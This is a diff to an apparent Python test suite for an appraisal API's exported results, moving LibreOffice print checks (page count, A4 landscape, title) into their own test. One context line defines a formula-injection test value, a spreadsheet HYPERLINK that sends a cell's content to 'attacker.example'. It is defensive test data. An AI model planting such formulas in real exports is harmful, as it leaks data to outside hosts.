@@ -13,7 +13,7 @@ from docx import Document
 from openpyxl import load_workbook
 
 from platformctl.testing import Platform, assert_problem
-from shared.testing_documents import pdf_pages, pdf_text, render_with_libreoffice
+from shared.testing_documents import assert_a4_landscape, pdf_pages, pdf_text, render_with_libreoffice
 
 BASE = "/api/appraisal/v1"
 COUNTIES = ["411702", *(f"4117{n}" for n in range(21, 30))]
@@ -24,6 +24,8 @@ XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 PDF = b"%PDF-1.4\n% evidence\n%%EOF\n"
 RW = ["appraisal:read", "appraisal:write"]
 DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+# what the year's scenario exported, for the rendering test after it
+PRINTED: dict[str, Any] = {}
 FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
 
 
@@ -385,18 +387,28 @@ async def test_a_zhumadian_year_from_opening_to_rectification(
         printed = pdf_text(pdf.content)
         assert pdf_pages(pdf.content) <= 4
         assert all(name in printed for name in names - {FORMULA_NAME})
-        rendered = render_with_libreoffice(
-            {"results.xlsx": workbook.content, "results.docx": document.content}
+        assert_a4_landscape(pdf.content)
+        PRINTED.update(
+            files={"results.xlsx": workbook.content, "results.docx": document.content}, title=title
         )
-        for rendered_name, content in rendered.items():
-            pages = pdf_pages(content)
-            assert 1 <= pages <= 4, f"{rendered_name} prints on {pages} pages"
-            flat = pdf_text(content).replace("\n", "").replace(" ", "")
-            assert title in flat, rendered_name
-            assert "驿城区" in flat, rendered_name
         own = ok(await xiping.get(f"{years}/results"), 200)
         assert [r["subject"] for r in own["results"]] == ["411721"]
         assert ok(await xiping.get(f"{years}/subjects"), 200)["total"] == 1
+
+
+async def test_the_results_print_as_staff_would_print_them() -> None:
+    """The XLSX and DOCX of the year's results, printed to PDF by LibreOffice: at most 4 A4
+    landscape pages, none blank, with the title and the first-ranked county."""
+    if not PRINTED:
+        pytest.skip("the year's scenario above did not run (this test prints its results)")
+    rendered = render_with_libreoffice(PRINTED["files"])
+    for name, content in rendered.items():
+        pages = pdf_pages(content)
+        assert 1 <= pages <= 4, f"{name} prints on {pages} pages"
+        assert_a4_landscape(content)
+        flat = pdf_text(content).replace("\n", "").replace(" ", "")
+        assert PRINTED["title"] in flat, name
+        assert "驿城区" in flat, name
 
 
 async def test_county_and_department_scopes_through_the_gateway(
